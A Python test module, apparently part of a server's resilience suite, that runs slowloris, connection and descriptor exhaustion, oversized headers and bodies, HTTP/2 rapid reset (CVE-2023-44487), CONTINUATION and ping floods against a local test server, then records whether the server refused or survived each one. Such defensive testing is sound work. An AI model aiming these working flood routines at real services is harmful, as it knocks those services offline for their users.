"""Attacks with connections: slow, idle, half open, unread, endless. Each opens what it may and tells what
became of it.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

from percept import Client, PerceptError

from support import raw, world
from support.robots import scan
from support.server import Server, eventually


@dataclass
class Target:
    """What is attacked, and how hard."""

    server: Server
    #: A session with a map; others ask for its pose meanwhile.
    session_id: str
    client: object
    #: How long what is slow goes on.
    seconds: float = 12.0
    #: Share of the full number of connections and messages.
    scale: float = 1.0

    def many(self, count: int) -> int:
        return max(int(count * self.scale), 2)


@dataclass
class Tried:
    """What an attack came to."""

    sent: int = 0
    #: Connections or calls that the server ended or refused while the attacker wanted to go on.
    ended: int = 0
    note: str = ""
    #: What must not have been possible.
    broken: list[str] = field(default_factory=list)


@contextlib.contextmanager
def opened(address: str, count: int) -> Iterator[list[socket.socket]]:
    """So many connections; fewer if the server takes no more."""
    sockets = []
    try:
        for _ in range(count):
            try:
                sockets.append(raw.connect(address, 2.0))
            except OSError:
                break
        yield sockets
    finally:
        for s in sockets:
            s.close()


def trickle(sockets, seconds: float, piece: bytes) -> int:
    """Sends a little to each, over and over; counts those that the server ends."""
    alive = set(sockets)
    end = time.monotonic() + seconds
    while alive and time.monotonic() < end:
        for s in list(alive):
            if raw.closed_by_peer(s):
                alive.discard(s)
                continue
            with contextlib.suppress(BlockingIOError):
                try:
                    s.send(piece)
                except BlockingIOError:
                    raise
                except OSError:
                    alive.discard(s)
        time.sleep(0.5)
    return len(sockets) - len(alive)


def slow_heads(target: Target) -> Tried:
    """300 heads that grow by a header every half second (slowloris)."""
    with opened(target.server.rest, target.many(300)) as sockets:
        for s in sockets:
            s.sendall(b"GET /v1/sessions HTTP/1.1\r\nhost: 127.0.0.1\r\n")
        ended = trickle(sockets, target.seconds, b"x-a: b\r\n")
        return Tried(len(sockets), ended)


def slow_bodies(target: Target) -> Tried:
    """300 bodies that grow by a byte every half second."""
    head = raw.request_head("POST", "/v1/sessions", content_type="application/json", content_length=10_000)
    with opened(target.server.rest, target.many(300)) as sockets:
        for s in sockets:
            s.sendall(head)
        return Tried(len(sockets), trickle(sockets, target.seconds, b" "))


def slow_hello(target: Target) -> Tried:
    """300 connections to the gRPC door that say nothing, or half of HTTP/2's hello."""
    with opened(target.server.grpc, target.many(300)) as sockets:
        for s in sockets[::2]:
            s.sendall(raw.PREFACE[:10])
        return Tried(len(sockets), trickle(sockets, target.seconds, b""))


def idle_connections(target: Target) -> Tried:
    """As many idle connections as descriptors allow, 10,000 at most, to both doors; then a new client
    comes.
    """
    soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    count = min(target.many(10_000), soft - 500)
    with opened(target.server.rest, count // 2) as one, opened(target.server.grpc, count // 2) as two:
        time.sleep(1)
        ended = sum(raw.closed_by_peer(s) for s in one + two)
        answer = raw.exchange(target.server.rest, raw.request_head("GET", "/livez", connection="close"))
        served = raw.status_of(answer)
        note = f"a new client gets {served or 'no answer'}"
        return Tried(len(one) + len(two), ended, note, [] if served in (200, 503) else ["a new client is not answered"])


def no_descriptors_left(target: Target) -> Tried:
    """A server that may open 256 files, and 400 connections. Who is served must be served on, storage too."""
    out = Tried()
    with few_descriptors(target, 256) as server, Client(server.grpc) as client:
        session = client.sessions.create(sensors=[world.LASER])
        session.send_scan("laser", stamp_ns=1, **scan(0))
        with opened(server.rest, 200) as one, opened(server.grpc, 200) as two:
            out.sent = len(one) + len(two)
            for i in range(1, 20):
                try:
                    session.send_scan("laser", stamp_ns=1 + i * world.FRAME_NS, **scan(4 * i))
                except PerceptError as error:
                    out.broken.append(f"frame {i} is refused: {error}"[:160])
                    break
            out.ended = sum(raw.closed_by_peer(s) for s in one + two)
        head = raw.request_head("GET", "/livez", connection="close")
        again = eventually(lambda: raw.status_of(raw.exchange(server.rest, head, 2)) == 200)
        if not again:
            out.broken.append("the doors stay closed once the connections are gone")
        if not eventually(lambda: _taken(session)):
            out.broken.append("frames are refused for long after the connections are gone")
    return out


def _taken(session) -> bool:
    """Whether one more frame is taken, or was by a call before that did not hear of it."""
    try:
        session.send_scan("laser", stamp_ns=10**12, **scan(3))
    except PerceptError as error:
        return error.reason == "STAMP_NOT_INCREASING"
    return True


@contextlib.contextmanager
def few_descriptors(target: Target, count: int) -> Iterator[Server]:
    """Another server, that may open so many files."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (count, hard))
    try:
        server = Server(target.server.data_dir.with_name("few"))
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    # It may not raise its limit by itself, either.
    resource.prlimit(server.process.pid, resource.RLIMIT_NOFILE, (count, count))
    try:
        yield server
    finally:
        server.kill()


def giant_headers(target: Target) -> Tried:
    """1 MB of headers over HTTP/1.1, in one and in ten thousand."""
    out = Tried()
    one = b"GET /v1/sessions HTTP/1.1\r\nhost: 127.0.0.1\r\nx-a: " + b"a" * (1 << 20) + b"\r\n\r\n"
    many = b"GET /v1/sessions HTTP/1.1\r\nhost: 127.0.0.1\r\n" + b"x-a: bbbb\r\n" * 10_000 + b"\r\n"
    long_path = b"GET /v1/" + b"a" * (1 << 20) + b" HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n"
    answers = [raw.status_of(raw.exchange(target.server.rest, data, 5)) for data in (one, many, long_path)]
    out.sent, out.ended = 3, sum(a is None or a >= 400 for a in answers)
    out.note = f"answers {answers}"
    out.broken = [f"answered {a}" for a in answers if a is not None and a < 400]
    return out


def endless_bodies(target: Target) -> Tried:
    """40 bodies of 41 MB that never end, over REST."""
    head = raw.request_head(
        "POST",
        f"/v1/sessions/{target.session_id}/frames",
        content_type="application/json",
        content_length=41_000_001,
    )
    piece = b" " * 1_000_000
    with opened(target.server.rest, target.many(40)) as sockets:
        for s in sockets:
            s.settimeout(1.0)
            with contextlib.suppress(OSError):
                s.sendall(head)
        for _ in range(41):
            for s in sockets:
                with contextlib.suppress(OSError):
                    s.sendall(piece)
        ended = trickle(sockets, min(target.seconds, 5), b" ")
        return Tried(len(sockets), ended)


def half_messages(target: Target) -> Tried:
    """200 gRPC streams with a message of 5 MB each that lacks its last byte."""
    piece = bytes(1 << 20)
    connections = []
    for _ in range(target.many(200)):
        try:
            h2 = raw.Http2(target.server.grpc, 1.0)
            connections.append(h2)
            stream = h2.open_stream("SensorsService/StreamFrames")
            h2.send(raw.frame(raw.DATA, 0, stream, raw.message_prefix(5 << 20)))
            for k in range(5):
                h2.send(raw.frame(raw.DATA, 0, stream, piece if k < 4 else piece[:-1]))
        except OSError:
            continue
    ended = trickle([h2.socket for h2 in connections], min(target.seconds, 5), b"")
    for h2 in connections:
        h2.close()
    return Tried(len(connections), ended)


def unread_answers(target: Target) -> Tried:
    """100 clients that ask for a large file over and over and read nothing."""
    path = f"/v1/sessions/{target.session_id}/map/cloud"
    with opened(target.server.rest, target.many(100)) as sockets:
        for s in sockets:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            with contextlib.suppress(OSError):
                s.sendall(raw.request_head("GET", path) * 50)
        time.sleep(min(target.seconds, 5))
        return Tried(len(sockets), sum(_hung_up(s) for s in sockets))


def _hung_up(s: socket.socket) -> bool:
    """Whether the peer has reset or closed, without reading what it sent."""
    import select

    poll = select.poll()
    poll.register(s, select.POLLHUP | select.POLLRDHUP | select.POLLERR)
    return bool(poll.poll(0))


def unread_watchers(target: Target) -> Tried:
    """500 streams of events, half over REST, half over gRPC, that nobody reads while frames come."""
    count = target.many(500)
    session = target.client.sessions.create(sensors=[world.LASER])
    path = f"/v1/sessions/{session.session_id}/events"
    request = b"\x0a" + bytes([len(session.session_id)]) + session.session_id.encode()
    streams = []
    with opened(target.server.rest, count // 2) as sockets:
        for s in sockets:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.sendall(raw.request_head("GET", path, accept="text/event-stream"))
        for _ in range(count // 50):
            h2 = raw.Http2(target.server.grpc)
            streams.append(h2)
            for _ in range(25):
                stream = h2.open_stream("SessionsService/WatchSession")
                h2.send(raw.frame(raw.DATA, raw.END_STREAM, stream, raw.message_prefix(len(request)) + request))
        end, i = time.monotonic() + target.seconds, 0
        while time.monotonic() < end:
            session.send_scan("laser", stamp_ns=world.stamp(i), **scan(i))
            i += 1
        ended = sum(_hung_up(s) for s in [*sockets, *(h2.socket for h2 in streams)])
    for h2 in streams:
        h2.close()
    session.delete()
    return Tried(count, ended, f"{i / target.seconds:.0f} frames/s meanwhile")


def half_open_streams(target: Target) -> Tried:
    """10,000 HTTP/2 streams on 20 connections that never go on."""
    connections, sent = [], 0
    for _ in range(target.many(20)):
        h2 = raw.Http2(target.server.grpc, 2.0)
        connections.append(h2)
        with contextlib.suppress(OSError):
            for _ in range(500):
                h2.open_stream("SensorsService/SendFrame")
                sent += 1
    refused = 0
    for h2 in connections:
        h2.socket.settimeout(0.3)
        refused += sum(kind in (raw.RST_STREAM, raw.GOAWAY) for kind, _, _, _ in h2.frames(3000))
    for h2 in connections:
        h2.close()
    return Tried(sent, refused, "refused by RST_STREAM or GOAWAY are counted as ended")


def rapid_reset(target: Target) -> Tried:
    """20,000 streams that are reset as soon as they are opened (CVE-2023-44487)."""
    h2, sent = raw.Http2(target.server.grpc, 2.0), 0
    reset = (8).to_bytes(4, "big")
    with contextlib.suppress(OSError):
        for _ in range(target.many(20_000)):
            stream = h2.open_stream("SessionsService/ListSessions")
            h2.send(raw.frame(raw.RST_STREAM, 0, stream, reset))
            sent += 1
    h2.socket.settimeout(0.5)
    ended = sum(kind == raw.GOAWAY for kind, _, _, _ in h2.frames(50_000))
    h2.close()
    return Tried(sent, ended, "GOAWAY counted as ended")


def continuation_flood(target: Target) -> Tried:
    """A head that goes on in CONTINUATION frames without an end, 64 MB of it (CVE-2024-27316)."""
    h2, sent = raw.Http2(target.server.grpc, 2.0), 0
    block = raw.header_block([(f"x-{k}", "a" * 100) for k in range(100)])
    piece = raw.frame(raw.CONTINUATION, 0, 1, block)
    with contextlib.suppress(OSError):
        h2.send(raw.frame(raw.HEADERS, 0, 1, raw.header_block(raw.grpc_headers("SessionsService/ListSessions"))))
        for _ in range(target.many(6000)):
            h2.send(piece)
            sent += len(piece)
    ended = int(sent < 6000 * target.scale * len(piece) - 1 or raw.closed_by_peer(h2.socket))
    h2.close()
    return Tried(sent, ended, "bytes are counted as sent")


def ping_flood(target: Target) -> Tried:
    """100,000 pings and settings whose answers nobody reads."""
    h2, sent = raw.Http2(target.server.grpc, 2.0), 0
    piece = (raw.frame(raw.PING, 0, 0, bytes(8)) + raw.frame(raw.SETTINGS, 0, 0)) * 100
    with contextlib.suppress(OSError):
        for _ in range(target.many(500)):
            h2.send(piece)
            sent += 200
    ended = int(raw.closed_by_peer(h2.socket))
    h2.close()
    return Tried(sent, ended)


ALL = [
    slow_heads,
    slow_bodies,
    slow_hello,
    idle_connections,
    no_descriptors_left,
    giant_headers,
    endless_bodies,
    half_messages,
    unread_answers,
    unread_watchers,
    half_open_streams,
    rapid_reset,
    continuation_flood,
    ping_flood,
]
